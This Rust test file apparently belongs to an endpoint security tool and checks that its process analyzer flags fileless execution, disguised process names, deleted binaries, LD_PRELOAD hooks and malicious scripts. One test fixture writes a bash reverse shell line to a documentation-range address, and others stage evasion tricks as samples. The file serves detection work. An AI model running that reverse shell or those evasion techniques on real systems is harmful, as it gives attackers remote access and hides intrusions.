//! `analyze process`: what runs from memory, was made to load something, or hides what it is.

use std::fs::File;
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Child, Command, Stdio};

use lrsh::protocol::Status;
use serde_json::Value;

use super::analyze::{eicar, evidence};
use crate::kit::device::Device;
use crate::kit::talking::until;

/// A process that is ended with the test.
struct Running(Child);

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn start(command: &mut Command) -> Running {
    Running(command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap())
}

fn judged(device: &Device, running: &Running) -> Value {
    let pid = running.0.id().to_string();
    let answer = device.run("analyze", &[("type", "process"), ("id", &pid)], &[]);
    assert_eq!(answer.completed.status, Status::Completed, "{:?}", answer.completed);
    assert_eq!(answer.seen()[0].key, pid);
    answer.object()
}

/// `sleep` with something behind its end, which no loader minds.
fn sleep_with(tail: &[u8]) -> Vec<u8> {
    [&std::fs::read("/bin/sleep").unwrap(), tail].concat()
}

#[test]
fn a_program_in_memory_is_found_with_what_it_carries() {
    let device = Device::live();
    let memfd = rustix::fs::memfd_create("update", rustix::fs::MemfdFlags::CLOEXEC).unwrap();
    let mut file = File::from(memfd);
    file.write_all(&sleep_with(eicar().as_bytes())).unwrap();
    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
    let running = start(Command::new(path).arg0("sleep").arg("1000"));
    let told = judged(&device, &running);
    assert_eq!(told["verdict"], "malicious", "{told}");
    let found = evidence(&told);
    for wanted in ["builtin eicar_test_file 100", "process memfd 60"] {
        assert!(found.iter().any(|one| one == wanted), "{wanted}: {told}");
    }
}

#[test]
fn an_image_that_is_gone_and_a_disguise_are_found() {
    let device = Device::live();
    let folder = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let image = folder.path().join("daemon");
    std::fs::copy("/bin/sleep", &image).unwrap();
    let running = start(Command::new(&image).arg0("[kworker/0:1]").arg("1000"));
    assert_eq!(evidence(&judged(&device, &running)), ["process disguise 60"]);
    // Replaced, as an update does it; then gone.
    std::fs::copy("/bin/sleep", folder.path().join("new")).unwrap();
    std::fs::rename(folder.path().join("new"), &image).unwrap();
    assert_eq!(evidence(&judged(&device, &running)), ["process disguise 60", "process deleted 10"]);
    std::fs::remove_file(&image).unwrap();
    assert_eq!(evidence(&judged(&device, &running)), ["process disguise 60", "process deleted 40"]);
}

#[test]
fn a_preloaded_library_is_found() {
    let device = Device::live();
    let folder = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let library = folder.path().join("hook.so");
    // A library that the loader takes: any will do, by a name that no package owns.
    std::fs::copy(library_of("/bin/sleep"), &library).unwrap();
    let running = start(Command::new("/bin/sleep").arg("1000").env("LD_PRELOAD", &library));
    let told = judged(&device, &running);
    let found = told["evidence"].as_array().unwrap().iter().find(|found| found["rule"] == "preload").unwrap();
    assert_eq!((found["engine"].as_str(), found["weight"].as_u64()), (Some("process"), Some(60)), "{told}");
    assert!(found["what"].as_str().unwrap().contains(library.to_str().unwrap()), "{told}");
    assert_eq!(told["verdict"], "suspicious");
}

/// A library that a program loads.
fn library_of(program: &str) -> String {
    let out = Command::new("ldd").arg(program).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    text.lines().find_map(|line| line.split("=> ").nth(1)?.split(' ').next().map(ToOwned::to_owned)).unwrap()
}

#[test]
fn a_library_is_vouched_for_by_what_was_loaded_not_by_its_name() {
    let device = Device::live();
    let folder = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    // A bare name that a package has a library of, elsewhere.
    std::fs::copy(library_of("/bin/sleep"), folder.path().join("libm.so.6")).unwrap();
    let mut command = Command::new("/bin/sleep");
    command.arg("1000").env("LD_PRELOAD", "libm.so.6").env("LD_LIBRARY_PATH", folder.path());
    let running = start(&mut command);
    loaded(&running, "libm.so.6");
    let told = judged(&device, &running);
    assert!(evidence(&told).contains(&"process preload 60".to_owned()), "{told}");
    let running = start(Command::new("/bin/sleep").arg("1000").env("LD_PRELOAD", "libm.so.6"));
    loaded(&running, "libm.so.6");
    assert_eq!(evidence(&judged(&device, &running)), ["packages as_shipped 0", "process preload 0"]);
}

/// Waits until the loader has a file in memory.
fn loaded(running: &Running, name: &str) {
    let maps = format!("/proc/{}/maps", running.0.id());
    until("the loader has it", || {
        std::fs::read_to_string(&maps).unwrap_or_default().lines().any(|line| line.ends_with(name) && line.contains(" r-xp "))
    });
}

#[test]
fn what_is_executed_beside_the_image_is_looked_at() {
    let device = Device::live();
    let folder = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let program = folder.path().join("program");
    std::fs::write(&program, sleep_with(eicar().as_bytes())).unwrap();
    let Some(loader) = loader_of("/bin/sleep") else { return };
    let running = start(Command::new(loader).arg(&program).arg("1000"));
    loaded(&running, "program");
    let told = judged(&device, &running);
    assert_eq!((told["verdict"].as_str(), told["evidence"][0]["rule"].as_str()), (Some("malicious"), Some("eicar_test_file")));
    assert_eq!(told["evidence"][0]["place"], format!("executes {}", program.display()), "{told}");
}

/// The loader that a program names.
fn loader_of(program: &str) -> Option<String> {
    let out = Command::new("ldd").arg(program).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    text.lines()
        .map(str::trim)
        .find(|line| line.starts_with('/'))
        .and_then(|line| line.split(' ').next().map(ToOwned::to_owned))
}

#[test]
fn where_an_image_lies_counts_once() {
    let folder = tempfile::Builder::new().prefix("lrsh").tempdir_in("/tmp").unwrap();
    let image = folder.path().join("daemon");
    std::fs::copy("/bin/sleep", &image).unwrap();
    let running = start(Command::new(&image).arg("1000"));
    let told = judged(&Device::live(), &running);
    assert_eq!((evidence(&told), told["score"].as_u64()), (vec!["process temporary 40".to_owned()], Some(40)), "{told}");
}

#[test]
fn the_script_of_an_interpreter_is_looked_at() {
    let device = Device::live();
    let folder = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let script = folder.path().join("job.sh");
    let dev = "dev";
    std::fs::write(&script, format!("sleep 1000\nbash -i >& /{dev}/tcp/192.0.2.1/4444 0>&1\n")).unwrap();
    let at = |command: &mut Command| {
        command.current_dir(folder.path());
        let running = start(command);
        let told = judged(&device, &running);
        end_with_children(running);
        told
    };
    let path = script.to_str().unwrap();
    for arguments in [
        vec![path],
        vec!["job.sh"],
        vec!["-o", "errexit", "job.sh"],
        vec!["-c", ". ./job.sh"],
        vec!["-c", "true; source 'job.sh'"],
    ] {
        let told = at(Command::new("/bin/bash").args(&arguments));
        assert_eq!(told["evidence"][0]["rule"], "reverse_shell", "{arguments:?} {told}");
        assert_eq!(told["evidence"][0]["place"], format!("script {path}"), "{arguments:?} {told}");
    }
    let mut command = Command::new("/bin/bash");
    command.stdin(File::open(&script).unwrap()).stdout(Stdio::null()).stderr(Stdio::null());
    let running = Running(command.spawn().unwrap());
    let told = judged(&device, &running);
    assert_eq!(told["evidence"][0]["rule"], "reverse_shell", "{told}");
    end_with_children(running);

    // What cannot be found is said; where there is none, nothing is.
    std::fs::write(&script, "sleep 1000").unwrap();
    let running = start(Command::new("/bin/bash").arg("-c").arg("sleep 1000; . ./lost.sh"));
    let told = judged(&device, &running);
    assert!(told["not_looked_at"][0].as_str().is_some_and(|said| said.contains("lost.sh")), "{told}");
    end_with_children(running);
    let mut command = Command::new("/bin/bash");
    let running = Running(command.stdin(Stdio::piped()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap());
    let told = judged(&device, &running);
    assert!(told["not_looked_at"][0].as_str().is_some_and(|said| said.contains("a pipe")), "{told}");
    let told = at(Command::new("/bin/bash").arg("-c").arg("sleep 1000; true"));
    assert_eq!((told["verdict"].as_str(), &told["not_looked_at"]), (Some("clean"), &serde_json::json!([])), "{told}");
}

/// Ends a shell and what it waits for.
fn end_with_children(running: Running) {
    let children = std::fs::read_to_string(format!("/proc/{0}/task/{0}/children", running.0.id())).unwrap_or_default();
    drop(running);
    for child in children.split_whitespace() {
        let pid = rustix::process::Pid::from_raw(child.parse().unwrap()).unwrap();
        let _ = rustix::process::kill_process(pid, rustix::process::Signal::KILL);
    }
}

#[test]
fn an_ordinary_process_is_clean_and_none_is_an_error() {
    let device = Device::live();
    let running = start(Command::new("/bin/sleep").arg("1000"));
    let told = judged(&device, &running);
    assert_eq!((told["verdict"].as_str(), told["score"].as_u64()), (Some("clean"), Some(0)), "{told}");
    assert!(Path::new(told["path"].as_str().unwrap()).ends_with("sleep"));
    let answer = device.run("analyze", &[("type", "process"), ("id", "4194304")], &[]);
    assert_eq!((answer.completed.status, answer.completed.errors[0].code.as_str()), (Status::Failed, "not_found"));
}

#[test]
fn what_runs_no_file_is_said_to_and_is_unknown() {
    let device = Device::live();
    let check = |pid: &str, wanted: &str| {
        let answer = device.run("analyze", &[("type", "process"), ("id", pid)], &[]);
        assert_eq!(answer.completed.status, Status::Completed, "{:?}", answer.completed);
        let told = answer.object();
        assert_eq!((told["verdict"].as_str(), told["not_looked_at"][0].as_str()), (Some("unknown"), Some(wanted)), "{told}");
    };
    // One that has ended and is not asked for.
    let ended = start(&mut Command::new("/bin/true"));
    let pid = ended.0.id().to_string();
    until("its end", || std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap().contains(") Z "));
    check(&pid, "it has ended, and only its number is left until its parent asks for it");
    if std::fs::read_to_string("/proc/2/comm").is_ok_and(|name| name == "kthreadd\n") {
        check("2", "it is a thread of the kernel, which runs no file: there is nothing to judge");
    } else {
        eprintln!("SKIPPED the kernel's threads: they are not seen here");
    }
}
